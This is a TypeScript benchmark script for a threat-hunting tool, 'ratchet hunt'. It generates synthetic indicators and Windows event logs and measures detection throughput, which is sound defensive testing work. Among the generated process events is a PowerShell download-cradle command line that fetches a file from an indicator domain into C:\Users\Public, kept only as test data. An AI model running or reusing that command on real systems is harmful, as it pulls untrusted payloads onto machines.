/**
 * Benchmark for `ratchet hunt`: 100,000 indicators (IPv4, CIDR, IPv6, domains, hashes, file names, AnyDesk
 * IDs) against 1,000,000 generated events, through the real pipeline (IOC file parsing → index → streamed
 * events.jsonl → sessions/findings → files). Run: `npm run bench:hunt` (writes under bench/out/, removed after).
 * Options: BENCH_EVENTS, BENCH_IOCS, BENCH_KEEP=1 to keep the generated case, BENCH_SIGMA=0 without Sigma rules.
 */
import {createWriteStream, mkdirSync, rmSync, statSync, writeFileSync} from 'node:fs'
import {join} from 'node:path'
import {fileURLToPath} from 'node:url'
import {runHunt} from '../src/detect/hunt.js'
import {makeEventId, type NormalizedEvent} from '../src/events/types.js'

const N_EVENTS = Number(process.env.BENCH_EVENTS ?? 1_000_000)
const N_IOCS = Number(process.env.BENCH_IOCS ?? 100_000)
const out = fileURLToPath(new URL('./out/hunt/', import.meta.url))

// deterministic PRNG (mulberry32) so every run generates the same data
let seed = 0x5eed
function rnd(): number {
  seed = (seed + 0x6d2b79f5) | 0
  let t = seed
  t = Math.imul(t ^ (t >>> 15), t | 1)
  t ^= t + Math.imul(t ^ (t >>> 7), t | 61)
  return ((t ^ (t >>> 14)) >>> 0) / 4294967296
}
const int = (n: number): number => Math.floor(rnd() * n)
const ip = (): string => `${1 + int(223)}.${int(256)}.${int(256)}.${1 + int(254)}`
const hex = (n: number): string => Array.from({length: n}, () => '0123456789abcdef'[int(16)]).join('')
const word = (): string => ['alpha', 'bravo', 'cobalt', 'delta', 'ember', 'frost', 'gamma', 'helix', 'ion', 'jade'][int(10)] + int(100000)
const domain = (): string => `${word()}.${word()}.${['com', 'net', 'org', 'io', 'info'][int(5)]}`

function genIocs(path: string): {ips: string[]; domains: string[]; hashes: string[]; files: string[]} {
  const ips: string[] = []
  const domains: string[] = []
  const hashes: string[] = []
  const files: string[] = []
  const lines: string[] = ['# generated benchmark indicators']
  for (let i = 0; i < N_IOCS; i++) {
    const k = i % 20
    if (k < 7) {
      const v = ip()
      ips.push(v)
      lines.push(i % 3 === 0 ? v.replace(/\./g, '[.]') : v)
    } else if (k < 9) lines.push(`${int(224)}.${int(256)}.${int(256)}.0/${[16, 20, 24, 28][int(4)]}`)
    else if (k < 10) lines.push(`2001:db8:${hex(4)}::${hex(4)}`)
    else if (k < 15) {
      const d = domain()
      domains.push(d)
      lines.push(i % 2 ? d.replace(/\./g, '[.]') : d)
    } else if (k < 18) {
      const h = hex([64, 40, 32][int(3)])
      hashes.push(h)
      lines.push(h)
    } else if (k < 19) {
      const f = `${word()}.${['exe', 'dll', 'ps1', 'xml'][int(4)]}`
      files.push(f)
      lines.push(`file:${f}`)
    } else lines.push(String(100000000 + int(899999999)))
  }
  writeFileSync(path, lines.join('\n') + '\n')
  return {ips, domains, hashes, files}
}

async function genEvents(path: string, iocs: ReturnType<typeof genIocs>): Promise<void> {
  const ws = createWriteStream(path)
  const base = Date.UTC(2023, 9, 1) * 1000
  const hosts = ['PHARM-SRV01']
  const write = (s: string): Promise<void> | void => {
    if (!ws.write(s)) return new Promise((r) => ws.once('drain', () => r()))
  }
  for (let i = 0; i < N_EVENTS; i++) {
    const ts = base + i * 2_000_000
    const d = new Date(Math.floor(ts / 1000)).toISOString().replace('Z', '0000Z')
    const k = i % 10
    // about 1 in 1,000 events carries an indicator
    const hit = i % 1000 === 7
    const member = k < 7 ? 'files/C/Windows/System32/winevt/Logs/Security.evtx' : 'files/C/Windows/System32/winevt/Logs/Microsoft-Windows-Sysmon%4Operational.evtx'
    const evidence = {member, sha256: 'a'.repeat(64), record: i + 1, offset: i * 512}
    let e: Partial<NormalizedEvent>
    if (k < 4) {
      const cmd = hit ? `powershell -c iwr https://${iocs.domains[i % iocs.domains.length]}/p -OutFile C:\\Users\\Public\\${iocs.files[i % iocs.files.length]}` : `C:\\Windows\\System32\\svchost.exe -k netsvcs -p -s ${word()}`
      e = {event_type: 'process.created', process: 'C:\\Windows\\System32\\svchost.exe', command_line: cmd, user: 'SYSTEM', message: `A new process has been created: ${cmd}`, attributes: {event_id: 4688, channel: 'Security', provider: 'Microsoft-Windows-Security-Auditing', record_id: i + 1, NewProcessName: 'C:\\Windows\\System32\\svchost.exe', CommandLine: cmd, ParentProcessName: 'C:\\Windows\\System32\\services.exe', SubjectUserName: 'SYSTEM', NewProcessId: `0x${hex(4)}`}}
    } else if (k < 7) {
      const src = hit ? iocs.ips[i % iocs.ips.length] : `10.${int(256)}.${int(256)}.${int(256)}`
      e = {event_type: 'logon.success', user: `user${int(500)}`, src_ip: src, src_port: 1024 + int(60000), message: `An account was successfully logged on: from ${src}`, attributes: {event_id: 4624, channel: 'Security', provider: 'Microsoft-Windows-Security-Auditing', record_id: i + 1, logon_type: 3, logon_type_name: 'Network', WorkstationName: `WS-${int(300)}`, LogonProcessName: 'NtLmSsp', AuthenticationPackageName: 'NTLM'}}
    } else {
      const dst = hit ? iocs.ips[(i * 7) % iocs.ips.length] : ip()
      const hashes = hit ? `SHA256=${iocs.hashes[i % iocs.hashes.length].padEnd(64, '0').slice(0, 64)}` : `SHA256=${hex(64)}`
      e = {event_type: 'network.connection', src_ip: '10.0.0.20', src_port: 49152 + int(16000), dst_ip: dst, dst_port: 443, process: 'C:\\Program Files\\App\\app.exe', message: `Network connection: app.exe 10.0.0.20 -> ${dst}:443`, attributes: {event_id: 3, channel: 'Microsoft-Windows-Sysmon/Operational', provider: 'Microsoft-Windows-Sysmon', record_id: i + 1, Image: 'C:\\Program Files\\App\\app.exe', Hashes: hashes, DestinationHostname: hit ? iocs.domains[(i * 3) % iocs.domains.length] : domain(), Protocol: 'tcp'}}
    }
    const full = {
      id: makeEventId(evidence, e.event_type as string, d),
      datetime: d,
      timestamp: ts,
      timestamp_desc: 'Event Logged',
      source: 'EVTX',
      artefact: 'windows.eventlogs.all',
      host: hosts[0],
      ...e,
      evidence,
    }
    const p = write(JSON.stringify(full) + '\n')
    if (p) await p
  }
  await new Promise<void>((r) => ws.end(() => r()))
}

async function main(): Promise<void> {
  rmSync(out, {recursive: true, force: true})
  mkdirSync(out, {recursive: true})
  const iocPath = join(out, 'iocs.txt')
  const t0 = performance.now()
  const iocs = genIocs(iocPath)
  await genEvents(join(out, 'events.jsonl'), iocs)
  const tGen = performance.now() - t0
  const size = statSync(join(out, 'events.jsonl')).size
  console.log(`generated ${N_EVENTS.toLocaleString('en')} events (${(size / 2 ** 20).toFixed(0)} MiB) and ${N_IOCS.toLocaleString('en')} indicators in ${(tGen / 1000).toFixed(1)} s`)
  let peak = 0
  const timer = setInterval(() => (peak = Math.max(peak, process.memoryUsage().rss)), 100)
  const c1 = process.cpuUsage()
  const t1 = performance.now()
  // BENCH_SIGMA=0: without ratchet's Sigma rules (their pass over events.jsonl is the difference)
  const r = await runHunt({caseDir: out, iocFiles: [iocPath], packs: [], windowMs: 30 * 60_000, ...(process.env.BENCH_SIGMA === '0' ? {sigmaRuleDir: ''} : {})})
  const t = (performance.now() - t1) / 1000
  const cpu = process.cpuUsage(c1)
  clearInterval(timer)
  peak = Math.max(peak, process.memoryUsage().rss)
  console.log(`hunt: ${t.toFixed(2)} s total — ${Math.round(r.counts.events / t).toLocaleString('en')} events/s, ${(size / 2 ** 20 / t).toFixed(0)} MiB/s, peak RSS ${(peak / 2 ** 20).toFixed(0)} MiB, CPU ${((cpu.user + cpu.system) / 1e6).toFixed(2)} s (wall > CPU means the shared cores were busy)`)
  console.log(`      ${r.counts.indicators.toLocaleString('en')} indicators, ${r.counts.ioc_hits.toLocaleString('en')} IOC hits, ${r.counts.findings} findings, ${r.counts.sessions} sessions`)
  if (process.env.BENCH_KEEP !== '1') rmSync(out, {recursive: true, force: true})
}

await main()
